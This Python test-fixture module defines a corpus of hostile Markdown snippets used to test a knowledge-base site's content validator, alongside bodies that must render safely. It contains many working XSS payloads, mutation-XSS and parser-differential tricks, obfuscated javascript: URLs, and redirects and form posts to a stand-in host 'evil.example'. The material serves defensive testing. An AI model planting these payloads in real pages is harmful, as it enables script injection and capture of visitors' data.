"""The hostile corpus: contributed Markdown that tries to get active content onto the site.

Each case is ``(name, snippet, fragment)``: the snippet goes at the end of an otherwise
valid pattern body, and the refusal must name ``fragment``. The classes follow the
red-team report of issue #12; every one produced live script on the old, source-scanning
design while ``archkb validate`` and ``mkdocs build --strict`` passed.
"""

from __future__ import annotations

XSS = "<img src=x onerror=alert(1)>"

HOSTILE_BODIES: list[tuple[str, str, str]] = [
    # Extensions that add attributes (attr_list, md_in_html).
    ("attr-list paragraph handler", 'Click me.\n{: onclick="alert(1)" }\n', "onclick"),
    ("attr-list heading handler", '## Look here {: onmouseover="alert(1)" }\n', "onmouseover"),
    ("attr-list href on a safe link", '[safe](https://example.com){: href="javascript:alert(1)" }\n', "javascript:"),
    (
        "attr-list entity-encoded href",
        '[safe](https://example.com){: href="&#106;avascript:alert(1)" }\n',
        "javascript:",
    ),
    ("attr-list style overlay", 'Gotcha.\n{: style="position:fixed;top:0;left:0;width:100%;height:100%" }\n', "style="),
    ("attr-list id clobbering", "Config.\n{: #__config }\n", "reserved"),
    ("attr-list theme class", "Dialog.\n{: .md-dialog }\n", "reserved for the theme"),
    ("md_in_html handler", '<div markdown="1" onclick="alert(1)">\nx\n</div>\n', "onclick"),
    ("md_in_html link", "<div markdown>\n[x](javascript:alert(1))\n</div>\n", "javascript:"),
    ("md_in_html script", "<div markdown>\n<script>alert(1)</script>\n</div>\n", "raw <script>"),
    # Where the old scanner saw code but Markdown renders HTML.
    ("indented html in an admonition", f"!!! note\n\n    {XSS}\n", "onerror"),
    ("indented html in a list", f"- item\n\n    {XSS}\n", "onerror"),
    ("indented html in a footnote", f"Text[^evil].\n\n[^evil]: note\n\n    {XSS}\n", "onerror"),
    ("html in a definition list", f"Term\n:   {XSS}\n", "onerror"),
    ("escaped backticks", f"\\`{XSS}\\`\n", "onerror"),
    ("backticks across paragraphs", f"` open\n\n{XSS}\n\nclose `\n", "onerror"),
    ("unclosed fence", "```\n<script>alert(1)</script>\n", "raw <script>"),
    ("reference definition in a blockquote", "> [evil]: javascript:alert(1)\n\n[click][evil]\n", "javascript:"),
    (
        "reference definition in an admonition",
        "!!! note\n    [evil]: javascript:alert(1)\n\n[click][evil]\n",
        "javascript:",
    ),
    # HTML a block list never names.
    ("base href", '<base href="https://evil.example/">\n', "raw <base>"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n', "raw <meta>"),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">\n', "raw <link>"),
    ("style element", "<style>body { display: none }</style>\n", "raw <style>"),
    ("style attribute overlay", '<p style="position:fixed;inset:0">overlay</p>\n', "style="),
    (
        "textarea mutation",
        '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>\n',
        "raw <textarea>",
    ),
    (
        "noscript mutation",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n',
        "raw <noscript>",
    ),
    (
        "svg animate href",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>\n',
        "raw <svg>",
    ),
    ("svg set handler", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>\n', "raw <svg>"),
    ("math mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>\n", "raw <math>"),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>\n', "raw <iframe>"),
    ("object data", '<object data="javascript:alert(1)"></object>\n', "raw <object>"),
    ("form", '<form action="https://evil.example/"><input name="q"></form>\n', "raw <form>"),
    ("button formaction", '<button formaction="javascript:alert(1)">x</button>\n', "raw <button>"),
    ("details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>\n", "ontoggle"),
    ("input onfocus", "<input autofocus onfocus=alert(1)>\n", "onfocus"),
    ("body onload", "<body onload=alert(1)>\n", "onload"),
    ("image javascript src", '<img src="javascript:alert(1)" alt="">\n', "javascript:"),
    ("markdown image javascript", "![x](javascript:alert(1))\n", "javascript:"),
    ("data link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>\n', "data:"),
    ("vbscript link", '<a href="vbscript:msgbox(1)">x</a>\n', "vbscript:"),
    ("backslash before a tag", "\\<script>alert(1)\\</script>\n", "raw <script>"),
    ("mixed-case markdown link", "[x](JaVaScRiPt:alert(1))\n", "javascript:"),
    ("tab inside the scheme", '<a href="java&#x09;script:alert(1)">x</a>\n', "javascript:"),
    ("entity-encoded scheme", '<a href="&#106;avascript:alert(1)">x</a>\n', "javascript:"),
    ("id clobbering", '<p id="__md_scope">x</p>\n', "reserved"),
    # Parser differentials: html.parser reads these one way, browsers another.
    ("short comment", f"<!-->{XSS}-->\n", "onerror"),
    ("bang comment end", f"<!-- x --!>{XSS}\n", "onerror"),
    ("cdata in html", f"<![CDATA[>{XSS}]]>\n", "onerror"),
    ("style end with attributes", f"<style>x</style x>{XSS}\n", "raw <style>"),
    # Structure: what escapes its place changes the rest of the page.
    ("unclosed comment", "<div>\n<!-- the rest of the page is gone\n</div>\n", "unclosed comment"),
    ("element left open", '<a href="https://evil.example/">everything after this is a link\n', "left open"),
    ("stray closing tags", "</article></div>\n\nOutside the article.\n", "closing tag"),
    # The site's own markers, and input that broke the build with a traceback.
    ("deferred placeholder", "\x8farchkb-deferred-9\x90\n", "U+008F"),
    ("deferred comment marker", "<!--archkb-deferred-9-->\n", "reserved"),
    ("inline comment marker", "<!--archkb-inline-9-->x<!--/archkb-inline-->\n", "reserved"),
    ("marked section", "<![x[ y ]]>\n", "HTML parser fail"),
    ("marked section in code", "```\n<![x[ y ]]>\n```\n", "HTML parser fail"),
    ("nul byte", "A \x00 hidden byte.\n", "NUL"),
    ("bidi override", "access = 'user' \u202e } \u2066if admin\u2069 \u2066 {\n", "bidirectional"),
]
"""Hostile pattern bodies: ``(name, snippet, what the refusal must name)``."""

NEUTRALISED_BODIES: list[tuple[str, str, str]] = [
    ("unterminated tag", "<img src=x onerror=alert(1)\n", "<img src=x onerror=alert(1)"),
    ("comment left open in a paragraph", "Text <!-- the rest\n", "Text <!-- the rest"),
]
"""Bodies that Markdown itself turns into text: accepted, and shown as the text they are (in the
text a reader sees)."""

LEGITIMATE_BODIES: list[tuple[str, str, str]] = [
    ("script shown in a fence", "```html\n<script>alert(1)</script>\n```\n", "<script>alert(1)</script>"),
    ("javascript in inline code", "Never write `javascript:alert(1)` in a link.\n", "<code>javascript:alert(1)</code>"),
    ("indented code", "Code:\n\n    <img src=x onerror=alert(1)>\n", "<img src=x onerror=alert(1)>"),
    ("non-ascii text", "Ærøskøbing, Łódź, 東京 and São Paulo run services.\n", "Łódź, 東京"),
    ("angle brackets and ampersands", "Use `List<T>` when a & b < c.\n", "List<T> when a & b < c"),
    ("kbd and sup", "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>; x<sup>2</sup>.\n", "<kbd>Ctrl</kbd>"),
    ("table alignment", "| a | b |\n|:--|--:|\n| 1 | 2 |\n", "text-align"),
    ("admonition", '!!! tip "A tip"\n    Keep it short.\n', "admonition tip"),
    ("comment", "<!-- an editor's note -->\nVisible.\n", "Visible."),
    ("cdata shown in code", "`<![CDATA[ x ]]>`\n", "<![CDATA[ x ]]>"),
    ("mailto link", "[Write to us](mailto:kb@example.org).\n", 'href="mailto:kb@example.org"'),
    ("md button", "[Start](https://example.org/){: .md-button }\n", "md-button"),
]
"""Legitimate bodies that must build unchanged: ``(name, snippet, what the page must show)``:
markup is searched in the page's HTML, anything else in the text a reader sees."""
